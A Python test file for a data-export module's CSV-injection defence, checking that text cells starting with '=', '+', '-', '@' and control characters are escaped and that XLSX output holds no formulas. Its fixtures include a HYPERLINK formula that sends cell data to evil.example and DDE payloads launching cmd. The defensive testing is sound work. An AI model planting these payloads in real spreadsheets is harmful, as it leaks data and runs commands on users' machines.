"""Text cells no spreadsheet runs as formulas (assessment finding F2, OWASP "CSV Injection"):
the CSV writer's escape and the loaders' inverse (``ecohub.queries.cells``). Every expected
value is written out by hand from the rule: a ``'`` in front of a text that starts with
``= + - @``, tab, CR or NUL, or with ``'`` before one of those; not in front of a plain number."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

from ecohub.queries.cells import escape, escape_frame, escape_table, unescape, unescape_table
from ecohub.queries.export import write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
#: (text, as the CSV writer writes it)
CASES = [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("=", "'="),
    ("-", "'-"),
    ("-inf", "'-inf"),
    ("-5\n", "'-5\n"),  # not a number: a line end after it
    ("'=1+1", "''=1+1"),  # a text that already looks escaped: one more, so loading undoes one
    ("''@x", "'''@x"),
    # Left as they are: plain numbers (a formula cannot hide in one), other texts.
    ("-5", "-5"),
    ("+5", "+5"),
    ("-1.5e3", "-1.5e3"),
    ("-.5", "-.5"),
    ("+7.", "+7."),
    ("奥体中心", "奥体中心"),
    ("a=b", "a=b"),
    (" =1+1", " =1+1"),
    ("'", "'"),
    ("'x", "'x"),
    ("it's", "it's"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "written"), CASES, ids=[repr(c[0]) for c in CASES])
def test_escape_and_its_inverse(text: str, written: str) -> None:
    assert escape(text) == written
    assert unescape(written) == text


@pytest.mark.parametrize("text", ["'5", "'x", "''", "'", "x'=1", " '=1"])
def test_unescape_leaves_other_quotes(text: str) -> None:
    assert unescape(text) == text


def test_unescape_reads_other_programs_escapes() -> None:
    # A program that quotes every leading minus (OWASP does not exempt numbers) wrote '-5.
    assert unescape("'-5") == "-5"


def test_arrow_tables_escape_text_only() -> None:
    texts = [c[0] for c in CASES]
    when = datetime(2024, 1, 1, tzinfo=UTC)
    table = pa.table(
        {
            "=name": pa.array([*texts, None], pa.string()),
            "big": pa.array([*texts, None], pa.large_string()),
            "enum": pa.array([*texts, None], pa.string()).dictionary_encode(),
            "raw": pa.array([t.encode() for t in texts] + [None], pa.binary()),
            "n": pa.array([-5] * len(texts) + [None], pa.int64()),
            "x": pa.array([-1.5] * (len(texts) + 1), pa.float64()),
            "ok": pa.array([True] * (len(texts) + 1)),
            "t": pa.array([when] * (len(texts) + 1), pa.timestamp("us", tz="UTC")),
        }
    )
    got = escape_table(table)
    written = [c[1] for c in CASES] + [None]
    assert got.column_names == ["'=name", "big", "enum", "raw", "n", "x", "ok", "t"]
    for name in ("'=name", "big", "enum"):
        assert got.column(name).to_pylist() == written
    assert got.column("raw").to_pylist() == [w.encode() if w is not None else None for w in written]
    for name in ("n", "x", "ok", "t"):
        assert got.column(name).equals(table.column(name))
    back = unescape_table(pa.table({"c": pa.array(written, pa.string())}))
    assert back.column("c").to_pylist() == [*texts, None]


def test_frames_escape_text_cells_and_names() -> None:
    df = pd.DataFrame({"=h": [HYPERLINK, "-5", None], "n": [-5, 1, 2], "m": ["-1+1", 7, "ok"]})
    got = escape_frame(df)
    assert list(got.columns) == ["'=h", "n", "m"]
    assert got["'=h"].tolist() == ["'" + HYPERLINK, "-5", None]
    assert got["n"].tolist() == [-5, 1, 2]
    assert got["m"].tolist() == ["'-1+1", 7, "ok"]
    assert df["=h"].tolist() == [HYPERLINK, "-5", None]  # the caller's frame is not changed


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    df = pd.DataFrame({"=h": [HYPERLINK, DDE, "-1+1"], "n": [1, -2, 3]})
    buf = io.BytesIO()
    write_xlsx(df, buf)
    sheet = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["Sheet1"]
    assert [(c.value, c.data_type) for c in ws["A"]] == [
        ("=h", "s"),
        (HYPERLINK, "s"),
        (DDE, "s"),
        ("-1+1", "s"),
    ]
    assert [c.value for c in ws["B"]] == ["n", 1, -2, 3]
    write_xlsx(df, tmp_path / "x.xlsx", "result")  # to a path, a sheet by name
    assert openpyxl.load_workbook(tmp_path / "x.xlsx")["result"]["A2"].value == HYPERLINK
